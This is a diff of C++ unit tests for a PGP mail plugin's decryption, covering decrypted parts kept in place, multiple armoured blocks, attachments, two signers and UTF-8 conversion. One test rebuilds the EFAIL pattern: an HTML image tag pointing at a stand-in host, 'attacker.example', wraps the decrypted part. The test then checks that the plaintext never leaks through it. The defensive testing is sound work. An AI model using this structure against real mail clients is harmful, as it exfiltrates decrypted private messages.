@@ -14,6 +14,7 @@
 #include <fstream>
 #include <sstream>
 #include <string>
+#include <vector>
 
 namespace {
 using ::testing::HasSubstr;
@@ -51,8 +52,8 @@ std::string Session(const THostSession& session, const std::string& steps)
     return ANSWER_MESSAGES + session.UseKeyRings() + "load\nforminit\nready\nreader\n" + steps + "quit\n";
 }
 
-// DECRYPT of a message to Ann in an open reader with the signer included (unless CheckSig is off),
-// then the given steps.
+// DECRYPT of a message to Ann in an open reader with the signer included (signatures checked
+// unless told otherwise), then the given steps.
 THostRun DecryptInReader(
     const THostSession& session, const std::string& message, const std::string& steps, bool checkSig = true)
 {
@@ -560,6 +561,219 @@ TEST(DecryptRoad, ShowingTheCurrentMessageGoesThroughTheRawView)
     ASSERT_EQ(notes.size(), 1u);
     EXPECT_GT(run.IndexOf(notes[0]), raw);
     EXPECT_EQ(run.ExitCode, 0);
+}
+
+// Messages as other mail clients and servers write them (tests/data/decroad/make-shapes.sh).
+std::string Shape(const std::string& name)
+{
+    return Message("shapes/" + name);
+}
+
+// The part of a message between the delimiter line "--Boundary" that opens it and the next one.
+std::string PartAfter(const std::string& message, const std::string& opening)
+{
+    const size_t start = message.find(opening);
+    if (start == std::string::npos)
+        return {};
+    const size_t end = message.find("\r\n--", start + opening.size());
+    return message.substr(start, end == std::string::npos ? std::string::npos : end - start);
+}
+
+// An encrypted part beside plain ones: every part stays where it was, the encrypted ones
+// decrypted in their own places; an HTML part that opens an image reference before them shares
+// nothing with the decrypted text, in the file or in the reader, where the decrypted part is marked.
+TEST(DecryptRoad, EncryptedPartsBesidePlainOnesAreDecryptedInTheirPlaces)
+{
+    const std::string secret = "The secret plan is in the attachment.";
+    for (const bool checkSig : { true, false }) {
+        SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
+        THostSession session(checkSig ? "parts-sig" : "parts");
+        const std::string footer = Shape("pgpmime-beside-plain.eml");
+        THostRun run = DecryptInReader(session, footer, "", checkSig);
+        SCOPED_TRACE(run.Text());
+        std::string out = session.ReadFile("out.cnm");
+        EXPECT_EQ(out.find("-----BEGIN PGP"), std::string::npos) << out;
+        // The message's header and its plain parts byte for byte; the decrypted entity in its part.
+        EXPECT_EQ(out.substr(0, out.find("\r\n\r\n")), footer.substr(0, footer.find("\r\n\r\n")));
+        const std::string pdf = PartAfter(footer, "--outer\r\nContent-Type: application/pdf");
+        ASSERT_FALSE(pdf.empty());
+        EXPECT_THAT(out, HasSubstr(pdf));
+        EXPECT_THAT(out,
+            HasSubstr("--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n_______________\r\n"
+                      "list footer\r\n--outer--\r\n"));
+        EXPECT_THAT(out,
+            HasSubstr("--outer\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
+                      "7bit\r\n\r\n"
+                + secret + "\r\n"));
+        EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+
+        const std::string efail = Shape("efail.eml");
+        run = DecryptInReader(session, efail, "readertext\n", checkSig);
+        out = session.ReadFile("out.cnm");
+        const std::string html
+            = "--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n";
+        EXPECT_THAT(out,
+            HasSubstr(html
+                + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
+                + secret + "\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n"));
+        // The reader shows the decrypted part apart, between its markers; no link or picture reaches it.
+        const auto text = run.LinesStartingWith("reader text ");
+        ASSERT_EQ(text.size(), 1u);
+        const size_t start = text[0].find("Start of PGP/MIME part");
+        const size_t plan = text[0].find(secret);
+        const size_t end = text[0].find("End of PGP/MIME part");
+        EXPECT_LT(start, plan) << text[0];
+        EXPECT_LT(plan, end) << text[0];
+        EXPECT_NE(end, std::string::npos) << text[0];
+        EXPECT_EQ(text[0].find("attacker.example/" + secret), std::string::npos);
+        EXPECT_EQ(text[0].find("attacker.example/The"), std::string::npos);
+        EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+
+        // Two encrypted parts: both are decrypted.
+        run = DecryptInReader(session, Shape("two-encrypted-parts.eml"), "", checkSig);
+        out = session.ReadFile("out.cnm");
+        EXPECT_THAT(out, HasSubstr("Content-Transfer-Encoding: 8bit\r\n\r\nFirst secret.\r\n"));
+        EXPECT_THAT(out, HasSubstr("7bit\r\n\r\nSecond secret.\r\n"));
+        EXPECT_EQ(out.find("-----BEGIN PGP"), std::string::npos) << out;
+        EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+        EXPECT_EQ(run.ExitCode, 0);
+    }
+}
+
+// Several armoured blocks in one text, encrypted and signed, with text between them: each is
+// decoded in its place; the signature of the first is shown as covering a part only.
+TEST(DecryptRoad, EveryArmouredBlockOfATextIsDecoded)
+{
+    const std::string message = Shape("several-blocks.eml");
+    const std::string head = message.substr(0, message.find("\r\n\r\n") + 4);
+    for (const bool checkSig : { true, false }) {
+        SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
+        THostSession session(checkSig ? "blocks-sig" : "blocks");
+        session.WriteFile("blocks.cnm", message);
+        THostRun run
+            = DecryptInReader(session, message, "verify \"" + session.File("blocks.cnm") + "\"\n", checkSig);
+        SCOPED_TRACE(run.Text());
+        const std::string out = session.ReadFile("out.cnm");
+        EXPECT_EQ(out.find("-----BEGIN PGP MESSAGE-----"), std::string::npos) << out;
+        EXPECT_EQ(out.rfind(head + "Intro line.\r\n\r\nFirst secret.\r\n", 0), 0u) << out;
+        EXPECT_THAT(out, HasSubstr("Text between the blocks."));
+        EXPECT_THAT(out, HasSubstr("Between again.\r\n\r\nSecond secret.\r\n"));
+        EXPECT_THAT(out, HasSubstr("Closing line."));
+        // The clear-signed text is unwrapped only where signatures are checked.
+        EXPECT_EQ(out.find("-----BEGIN PGP SIGNED MESSAGE-----") == std::string::npos, checkSig) << out;
+        EXPECT_THAT(out, HasSubstr("Signed words."));
+        EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+        // DECRYPT's note (with signatures checked) and VERIFY's.
+        const auto notes = run.LinesStartingWith("request 3075 3 status ");
+        ASSERT_EQ(notes.size(), checkSig ? 2u : 1u);
+        for (const std::string& note : notes) {
+            EXPECT_THAT(note, HasSubstr("\"Partly signed: Good ("));
+            EXPECT_THAT(note, HasSubstr("Ann Lee <ann@example.org>"));
+        }
+    }
+}
+
+// Encrypted content sent as an attachment only, or in PGP/MIME re-wrapped or Base64-encoded by a
+// server: decrypted where it stands.
+TEST(DecryptRoad, EncryptedAttachmentsAndRewrappedPgpMimeAreDecrypted)
+{
+    const std::string plan
+        = "Content-Disposition: attachment; filename=\"plan.txt\"\r\n\r\nVGhlIHBsYW4sIGFzIGEgZmlsZS4K";
+    const struct {
+        const char* file;
+        std::string decrypted;
+    } cases[] = {
+        { "binary-attachment.eml",
+            "--outer\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--outer\r\n"
+            "Content-Type: application/octet-stream; name=\"plan.txt\"\r\nContent-Transfer-Encoding: "
+            "base64\r\n"
+                + plan },
+        { "binary-attachment-alone.eml",
+            "Subject: Binary attachment alone\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
+            "Content-Transfer-Encoding: base64\r\n"
+                + plan },
+        { "armoured-attachment.eml", plan },
+        { "pgpmime-rewrapped.eml",
+            "Subject: Rewrapped\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; "
+            "charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nRewrapped by the server.\r\n" },
+        { "pgpmime-base64.eml", "Sent as Base64 by the gateway." },
+    };
+    for (const auto& c : cases) {
+        for (const bool checkSig : { true, false }) {
+            SCOPED_TRACE(std::string(c.file) + (checkSig ? " CheckSig" : ""));
+            THostSession session("attached");
+            THostRun run = DecryptInReader(session, Shape(c.file), "", checkSig);
+            SCOPED_TRACE(run.Text());
+            const std::string out = session.ReadFile("out.cnm");
+            EXPECT_THAT(out, HasSubstr(c.decrypted));
+            EXPECT_EQ(out.find("-----BEGIN PGP"), std::string::npos) << out;
+            EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+            EXPECT_TRUE(run.LinesStartingWith("answered dialog").empty());
+        }
+    }
+}
+
+// A text signed by two signers, one signature packet each: both are reported, by DECRYPT and by
+// VERIFY.
+TEST(DecryptRoad, EverySignerOfATextIsReported)
+{
+    THostSession session("signers");
+    const std::string message = Shape("two-signers.eml");
+    session.WriteFile("signed.cnm", message);
+    THostRun run = DecryptInReader(session, message, "verify \"" + session.File("signed.cnm") + "\"\n");
+    SCOPED_TRACE(run.Text());
+    EXPECT_THAT(session.ReadFile("out.cnm"), HasSubstr("\r\n\r\nSigned by two.\r\n"));
+    const auto notes = run.LinesStartingWith("request 3075 3 status ");
+    ASSERT_EQ(notes.size(), 2u); // DECRYPT's and VERIFY's
+    for (const std::string& note : notes) {
+        const size_t ann = note.find("Good (");
+        EXPECT_NE(ann, std::string::npos) << note;
+        EXPECT_THAT(note, HasSubstr("Ann Lee <ann@example.org>"));
+        EXPECT_THAT(note, HasSubstr("Bob Stone <bob@example.net>"));
+        EXPECT_NE(note.find("Good (", ann + 1), std::string::npos) << note;
+    }
+    const auto boxes = run.LinesStartingWith("answered dialog \"ZA-VEK - Information\"");
+    ASSERT_EQ(boxes.size(), 1u);
+    EXPECT_EQ(run.ExitCode, 0);
+}
+
+// UTF-8 text, encrypted and signed or clear-signed, is converted for the mail client the same way
+// with and without signature checking, under a header that names the charset of the bytes written.
+TEST(DecryptRoad, DecryptedUtf8TextIsWrittenInTheMailClientsCharsetUnderItsName)
+{
+    const std::string label = "Content-Type: text/plain; charset=windows-1252\r\n";
+    std::vector<std::string> bodies;
+    for (const bool checkSig : { true, false }) {
+        SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
+        THostSession session("utf8");
+        THostRun run = DecryptInReader(session, Shape("utf8-encrypted.eml"), "", checkSig);
+        SCOPED_TRACE(run.Text());
+        const std::string out = session.ReadFile("out.cnm");
+        EXPECT_THAT(out, HasSubstr(label));
+        bodies.push_back(out.substr(out.find("\r\n\r\n") + 4));
+        EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
+    }
+    EXPECT_EQ(bodies[0], bodies[1]);
+    // The characters of Windows-1252 are its bytes; the others as the conversion spells them.
+    EXPECT_EQ(bodies[0].rfind("Gr\xFC\xDF"
+                              "e \x96 5 \x80, ",
+                  0),
+        0u)
+        << bodies[0];
+    EXPECT_EQ(bodies[0].find("\xC3"), std::string::npos) << bodies[0];
+
+    THostSession session("utf8-signed");
+    session.WriteFile("signed.cnm", Shape("utf8-clearsigned.eml"));
+    THostRun run = DecryptInReader(
+        session, Shape("utf8-clearsigned.eml"), "verify \"" + session.File("signed.cnm") + "\"\n");
+    SCOPED_TRACE(run.Text());
+    const std::string out = session.ReadFile("out.cnm");
+    EXPECT_THAT(out, HasSubstr(label));
+    EXPECT_EQ(out.substr(out.find("\r\n\r\n") + 4), bodies[0]);
+    // The signature holds over the sender's bytes, for DECRYPT and VERIFY alike.
+    const auto notes = run.LinesStartingWith("request 3075 3 status \"Good (");
+    EXPECT_EQ(notes.size(), 2u);
 }
 
 } // namespace
